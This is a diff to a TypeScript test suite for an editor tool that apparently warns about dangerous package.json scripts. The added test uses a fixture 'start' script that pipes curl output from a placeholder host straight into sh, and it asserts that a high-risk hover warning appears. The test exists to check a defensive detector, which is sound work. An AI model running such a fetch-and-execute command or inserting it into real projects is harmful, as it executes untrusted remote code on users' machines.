@@ -116,6 +116,20 @@ describe('the folders of a window', () => {
     );
   });
 
+  it('have one over what somebody runs by its name only where it does harm', async () => {
+    const manifest = '{"scripts":{"test":"mocha","start":"curl https://x.example.invalid | sh"}}';
+    await start({ 'package.json': manifest });
+    await editor.published.next();
+    const hoverOn = (text: string): Promise<HookHoverResult> =>
+      editor.connection.sendRequest(HOOK_HOVER_REQUEST, {
+        ...{ uri: `file://${REPOSITORY_FOLDER}/package.json`, line: 0, character: manifest.indexOf(text) + 1 },
+      });
+    assert.deepEqual(await hoverOn('mocha'), {});
+    const { markdown = '' } = await hoverOn('curl');
+    assert.match(markdown, /High: The script start downloads something and runs it when somebody runs it by its name/);
+    assert.deepEqual(news.all, [], 'nothing of it runs when the folder is opened');
+  });
+
   it('say nothing where their hooks do no harm', async () => {
     await start({ 'package.json': HOSTILE['package.json'] });
     assert.deepEqual((await risks()).projects, []);
